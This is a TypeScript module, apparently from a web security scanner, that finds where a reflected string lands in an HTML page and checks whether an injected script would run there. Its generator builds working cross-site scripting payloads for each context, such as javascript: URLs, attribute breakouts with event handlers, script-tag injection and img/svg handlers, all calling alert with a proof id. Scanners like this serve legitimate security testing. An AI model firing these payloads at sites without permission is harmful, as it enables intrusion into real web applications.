/**
 * Where a reflected string lands in an HTML page, and whether an injected payload
 * would run there: pure functions over the tokenizer (htmlParser.ts).
 */
import { tokenizeHtml, type HtmlToken } from './htmlParser.js';

export type ReflectionContext =
  | { readonly kind: 'html' }
  | { readonly kind: 'comment' }
  | { readonly kind: 'rcdata'; readonly element: string }
  | { readonly kind: 'attribute'; readonly quote: '"' | "'" | ''; readonly name: string; readonly atStart: boolean }
  | { readonly kind: 'tag' }
  | { readonly kind: 'script'; readonly state: JsState }
  | { readonly kind: 'style' };

/** Where in JavaScript source an offset is: code, inside a string of that quote, or a comment. */
export type JsState = 'code' | "'" | '"' | '`' | 'comment';

/** The JavaScript lexical state at `index` of `source` (strings, template literals, comments). */
export function jsStateAt(source: string, index: number): JsState {
  let state: JsState = 'code';
  let lineComment = false;
  for (let i = 0; i < index && i < source.length; i++) {
    const c = source[i];
    if (state === 'code') {
      if (c === '"' || c === "'" || c === '`') state = c;
      else if (c === '/' && source[i + 1] === '/') {
        state = 'comment';
        lineComment = true;
        i++;
      } else if (c === '/' && source[i + 1] === '*') {
        state = 'comment';
        lineComment = false;
        i++;
      }
    } else if (state === 'comment') {
      if (lineComment && c === '\n') state = 'code';
      else if (!lineComment && c === '*' && source[i + 1] === '/') {
        state = 'code';
        i++;
      }
    } else {
      if (c === '\\') i++;
      else if (c === state) state = 'code';
      else if (c === '\n' && state !== '`') state = 'code';
    }
  }
  return state;
}

function attributeContext(
  html: string,
  token: Extract<HtmlToken, { type: 'start' }>,
  offset: number,
): ReflectionContext {
  // Re-read the tag to find the attribute whose value holds `offset`.
  const tag = html.slice(token.start, token.end);
  const relative = offset - token.start;
  const pattern = /([^\s"'>/=]+)\s*=\s*("([^"]*)"|'([^']*)'|([^\s>]+))/g;
  for (let m = pattern.exec(tag); m; m = pattern.exec(tag)) {
    const valueStart = m.index + m[0].length - m[2]!.length;
    const valueEnd = m.index + m[0].length;
    if (relative >= valueStart && relative < valueEnd) {
      const quote = m[3] !== undefined ? '"' : m[4] !== undefined ? "'" : '';
      const contentStart = valueStart + (quote ? 1 : 0);
      return { kind: 'attribute', quote, name: m[1]!.toLowerCase(), atStart: relative === contentStart };
    }
  }
  return { kind: 'tag' };
}

/** Every context in which `marker` appears in the page (deduplicated). */
export function reflectionContexts(html: string, marker: string): ReflectionContext[] {
  const offsets: number[] = [];
  for (let at = html.indexOf(marker); at !== -1 && offsets.length < 20; at = html.indexOf(marker, at + 1)) {
    offsets.push(at);
  }
  if (offsets.length === 0) return [];
  const tokens = tokenizeHtml(html);
  const contexts = new Map<string, ReflectionContext>();
  for (const offset of offsets) {
    const token = tokens.find((t) => offset >= t.start && offset < t.end);
    let context: ReflectionContext = { kind: 'html' };
    if (token?.type === 'comment') context = { kind: 'comment' };
    else if (token?.type === 'start') context = attributeContext(html, token, offset);
    else if (token?.type === 'end') context = { kind: 'tag' };
    else if (token?.type === 'rawtext') {
      if (token.parent === 'script') context = { kind: 'script', state: jsStateAt(token.text, offset - token.start) };
      else if (token.parent === 'style') context = { kind: 'style' };
      else context = { kind: 'rcdata', element: token.parent };
    }
    contexts.set(JSON.stringify(context), context);
  }
  return [...contexts.values()];
}

const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background']);

/**
 * Payloads that would run `alert(<n>)` in the given contexts, most likely first (at most 5).
 * `n` is a number unique to the attempt (proof that our payload ran, not another script).
 */
export function xssPayloads(
  contexts: readonly ReflectionContext[],
  n: () => string,
): { payload: string; proof: string }[] {
  const out: { payload: string; proof: string }[] = [];
  const add = (make: (id: string) => string) => {
    const id = n();
    out.push({ payload: make(id), proof: id });
  };
  const kinds = new Set(contexts.map((c) => c.kind));
  for (const context of contexts) {
    if (context.kind === 'attribute') {
      const q = context.quote;
      if (context.atStart && URL_ATTRIBUTES.has(context.name)) add((id) => `javascript:alert(${id})`);
      if (context.name.startsWith('on')) add((id) => `${q};alert(${id});//`);
      add((id) => `${q}><scrIpt>alert(${id})</scrIpt>`);
      add((id) => `${q} autofocus onfocus=alert(${id}) x=${q}`);
      if (!q) add((id) => ` onmouseover=alert(${id}) `);
    } else if (context.kind === 'script') {
      if (context.state === "'" || context.state === '"') add((id) => `${context.state};alert(${id});//`);
      if (context.state === '`') add((id) => `\${alert(${id})}`);
      if (context.state === 'code') add((id) => `;alert(${id});//`);
      add((id) => `</scrIpt><scrIpt>alert(${id})</scrIpt>`);
    }
  }
  if (kinds.has('html') || kinds.has('comment') || kinds.has('rcdata') || kinds.has('style') || kinds.has('tag')) {
    add((id) => `'"--></textarea></title></style><scrIpt>alert(${id})</scrIpt>`);
    add((id) => `'"--></textarea></title></style><img src=x onerror=alert(${id})>`);
    add((id) => `<svg onload=alert(${id})>`);
  }
  const seen = new Set<string>();
  return out
    .filter((p) => !seen.has(p.payload.replace(/\d+/g, '')) && seen.add(p.payload.replace(/\d+/g, '')))
    .slice(0, 5);
}

/**
 * Where `alert(<proof>)` would run in this page: a script element's code (not inside a
 * string or comment), an event-handler attribute, or a javascript: URL. The excerpt
 * of the page that shows it, or null.
 */
export function executableProof(html: string, proof: string): string | null {
  const call = `alert(${proof})`;
  if (!html.includes(call)) return null;
  const excerpt = (at: number) => html.slice(Math.max(0, at - 80), at + call.length + 40);
  for (const token of tokenizeHtml(html)) {
    if (token.type === 'rawtext' && token.parent === 'script') {
      for (let at = token.text.indexOf(call); at !== -1; at = token.text.indexOf(call, at + 1)) {
        const state = jsStateAt(token.text, at);
        if (state === 'code') return excerpt(token.start + at);
        // Inside a template literal, `${alert(n)}` runs.
        if (state === '`' && token.text.slice(Math.max(0, at - 2), at) === '${') return excerpt(token.start + at);
      }
    }
    if (token.type === 'start') {
      for (const [name, value] of token.attrList) {
        if (!value.includes(call)) continue;
        const squeezed = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
        const runs =
          (name.startsWith('on') && jsStateAt(value, value.indexOf(call)) === 'code') ||
          (URL_ATTRIBUTES.has(name) && squeezed.startsWith('javascript:'));
        if (runs) return html.slice(token.start, Math.min(token.end, token.start + 300));
      }
    }
  }
  return null;
}
